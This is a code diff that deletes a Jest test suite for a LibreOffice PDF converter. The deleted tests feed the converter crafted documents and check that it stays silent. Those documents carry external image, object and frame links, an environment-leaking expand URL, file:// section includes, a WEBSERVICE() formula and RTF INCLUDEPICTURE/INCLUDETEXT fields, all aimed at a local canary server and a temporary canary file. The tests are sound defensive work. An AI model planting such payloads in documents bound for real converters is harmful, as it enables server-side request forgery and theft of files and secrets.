@@ -1,16 +1,11 @@
-import { execFile, execFileSync } from 'node:child_process';
+import { execFileSync } from 'node:child_process';
 import { existsSync } from 'node:fs';
-import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
-import { createServer } from 'node:http';
-import type { AddressInfo } from 'node:net';
+import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { promisify } from 'node:util';
-import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
+import { describe, expect, test } from '@jest/globals';
 import { convertToPdf } from '../../../../media/office/convert-to-pdf.ts';
 import { OFFICE_FORMATS, type OfficeFormat } from '../../../../media/office/office-format.ts';
-import { sofficeArguments } from '../../../../media/office/run-soffice.ts';
-import { profileSettings } from '../../../../media/office/soffice-profile.ts';
 import { stabilizePdf } from '../../../../media/office/stable-pdf.ts';
 import { writeDocx } from '../../../../samples/write-office.ts';
 import { writeOdf } from '../../../support/write-odf.ts';
@@ -64,11 +59,6 @@ const docx = writeDocx({
 });
 const cell = (formula: string) =>
   `<table:table table:name="A"><table:table-row><table:table-cell table:formula="${formula}" office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row></table:table>`;
-const frame = (content: string) =>
-  `<text:p>before<draw:frame svg:width="5cm" svg:height="5cm" text:anchor-type="paragraph">${content}</draw:frame></text:p>`;
-const link = (href: string) =>
-  `xlink:href="${href}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"`;
-
 withOffice('LibreOffice makes a PDF of', () => {
   const slide =
     '<draw:page draw:name="one"><draw:frame svg:x="1cm" svg:y="1cm" svg:width="10cm" svg:height="3cm"><draw:text-box><text:p>Present it</text:p></draw:text-box></draw:frame></draw:page>';
@@ -148,110 +138,5 @@ withOffice('a document that needs more memory than there is', () => {
         message: expect.stringMatching(/wrote no PDF within 768 MiB of memory/),
       });
     });
-  });
-});
-
-withOffice('a hostile document', () => {
-  const requests: string[] = [];
-  const server = createServer((request, response) => {
-    requests.push(`${request.method} ${request.url}`);
-    response.end('canary');
-  });
-  let address: string;
-  let secret: string;
-  beforeAll(async () => {
-    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
-    address = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
-    secret = await mkdtemp(join(tmpdir(), 'secret-'));
-    await writeFile(join(secret, 'canary.txt'), 'CANARY in a file');
-    process.env.CANARY = 'CANARY-in-the-environment';
-  });
-  afterAll(async () => {
-    server.close();
-    delete process.env.CANARY;
-    await rm(secret, { recursive: true });
-  });
-
-  const attacks: [label: string, extension: string, make: () => Buffer][] = [
-    [
-      'an image elsewhere',
-      'odt',
-      () => writeOdf({ kind: 'text', body: frame(`<draw:image ${link(`${address}/image.png`)}/>`) }),
-    ],
-    [
-      'an object elsewhere',
-      'odt',
-      () => writeOdf({ kind: 'text', body: frame(`<draw:object ${link(`${address}/object.ods`)}/>`) }),
-    ],
-    [
-      'a frame elsewhere',
-      'odt',
-      () =>
-        writeOdf({ kind: 'text', body: frame(`<draw:floating-frame ${link(`${address}/frame.html`)}/>`) }),
-    ],
-    [
-      'the environment in an address',
-      'odt',
-      () =>
-        writeOdf({
-          kind: 'text',
-          body: frame(`<draw:image ${link(`vnd.sun.star.expand:${address}/$CANARY`)}/>`),
-        }),
-    ],
-    [
-      'a section that is a file of ours',
-      'odt',
-      () =>
-        writeOdf({
-          kind: 'text',
-          body: `<text:section text:name="s"><text:section-source xlink:href="file://${secret}/canary.txt" xlink:type="simple" text:filter-name="Text"/><text:p>old</text:p></text:section>`,
-        }),
-    ],
-    [
-      'WEBSERVICE()',
-      'ods',
-      () => writeOdf({ kind: 'spreadsheet', body: cell(`of:=WEBSERVICE(&quot;${address}/service&quot;)`) }),
-    ],
-    [
-      'a field that includes a file and a picture',
-      'rtf',
-      () =>
-        Buffer.from(
-          `{\\rtf1 {\\field{\\*\\fldinst INCLUDEPICTURE "${address}/p.png" \\\\d}{\\fldrslt x}}{\\field{\\*\\fldinst INCLUDETEXT "file://${secret}/canary.txt"}{\\fldrslt y}}}`,
-        ),
-    ],
-  ];
-  test.each(attacks)('with %s learns nothing and reaches nobody', async (_, extension, make) => {
-    requests.length = 0;
-    const pdf = await converted(extension, make());
-    const { text } = await processed(pdf);
-    expect(requests).toEqual([]);
-    expect(text + pdf.toString('latin1')).not.toContain('CANARY');
-  });
-
-  /** LibreOffice with a network, as on Fargate, and with or without our profile; not even the dead proxy. */
-  const opened = (profile: string | undefined) =>
-    inDirectory(async (directory) => {
-      const file = join(directory, 'source.odt');
-      const body =
-        frame(`<draw:image ${link(`${address}/image.png`)}/>`) +
-        frame(`<draw:object ${link(`${address}/object.ods`)}/>`);
-      await writeFile(file, writeOdf({ kind: 'text', body }));
-      const [profileFolder, output] = [join(directory, 'profile'), join(directory, 'output')];
-      await mkdir(join(profileFolder, 'user'), { recursive: true });
-      if (profile) await writeFile(join(profileFolder, 'user', 'registrymodifications.xcu'), profile);
-      requests.length = 0;
-      const args = sofficeArguments(file, profileFolder, output, formatOf('odt'));
-      await promisify(execFile)('soffice', args, { env: { PATH: process.env.PATH, HOME: directory } });
-      return requests;
-    });
-
-  test('is kept silent by our settings alone, too', async () => {
-    const withoutProxy = profileSettings().replace(/<item oor:path="\/org.openoffice.Inet.*/g, '');
-    expect(await opened(withoutProxy)).toEqual([]);
-  });
-
-  test('would reach somebody without them: the canary sings', async () => {
-    expect(await opened(undefined)).toEqual(expect.arrayContaining(['GET /image.png', 'GET /object.ods']));
   });
 });
